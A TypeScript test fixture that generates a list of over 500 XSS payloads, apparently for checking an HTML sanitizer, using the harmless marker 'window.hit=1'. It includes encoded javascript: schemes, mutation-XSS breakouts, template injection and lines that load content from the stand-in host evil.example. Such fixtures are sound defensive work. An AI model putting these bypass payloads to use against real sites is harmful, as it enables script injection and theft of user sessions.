/** What every payload tries to do: the page has no such property otherwise. */
const run = 'window.hit=1';

const elements = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'p',
  'b',
  'a href=# autofocus tabindex=1',
  'span',
  'table',
  'li',
  'figure',
  'mark',
  'math',
  'style',
  'textarea autofocus',
  'select autofocus',
  'x tabindex=1 id=x',
];
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onstart',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\nscript:',
  'java\tscript:',
  'java&#10;script:',
  '&#1;javascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'javascript&#58;',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  '\u0000javascript:',
  '//evil.example/',
  'blob:',
];
const holders = [
  (address: string) => `<a href="${address}${run}">x</a>`,
  (address: string) => `<a href='${address}${run}'>x</a>`,
  (address: string) => `<iframe src="${address}${run}"></iframe>`,
  (address: string) => `<form action="${address}${run}"><button>x</button></form>`,
  (address: string) => `<svg><a xlink:href="${address}${run}"><text>x</text></a></svg>`,
  (address: string) => `<meta http-equiv="refresh" content="0;url=${address}${run}">`,
];
const wrappers = [
  (markup: string) => markup,
  (markup: string) => `</textarea>${markup}`,
  (markup: string) => `"><${markup}`,
  (markup: string) => `<!--><${markup}-->`,
  (markup: string) => `<p title="${markup}">x</p>`,
  (markup: string) => `<math><mtext><table><mglyph><style><!--</style>${markup}`,
  (markup: string) => `<svg></p><style><a id="</style>${markup}">`,
  (markup: string) => `<noscript><p title="</noscript>${markup}">`,
  (markup: string) => `<template>${markup}</template>`,
  (markup: string) => `<b${' '.repeat(3)}/${markup}`,
  (markup: string) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup: string) => markup.replaceAll('<', '\u0000<'),
];
const scripts = [
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script/x>${run}</script >`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}`,
  `<svg><script>${run}</script></svg>`,
  `<style>@import "data:text/css,*{x:y}";</style><link rel=stylesheet href=//evil.example/x>`,
  `<base href="//evil.example/">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<span style="background:url(javascript:${run})">x</span>`,
  `<span style="background:url(//evil.example/x)">x</span>`,
];

/** More than 500 texts that would run a script, load something or leave the page if one of them were HTML. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...elements.flatMap((element) =>
      events.map((event) => `<${element} ${event}=${run}>x</${element.split(' ')[0]}>`),
    ),
    ...elements.map((element) => `<${element}/onerror="${run}"/onfocus='${run}'>`),
    ...schemes.flatMap((scheme) => holders.map((hold) => hold(scheme))),
    ...scripts.flatMap((script) => wrappers.map((wrap) => wrap(script))),
  ]),
];
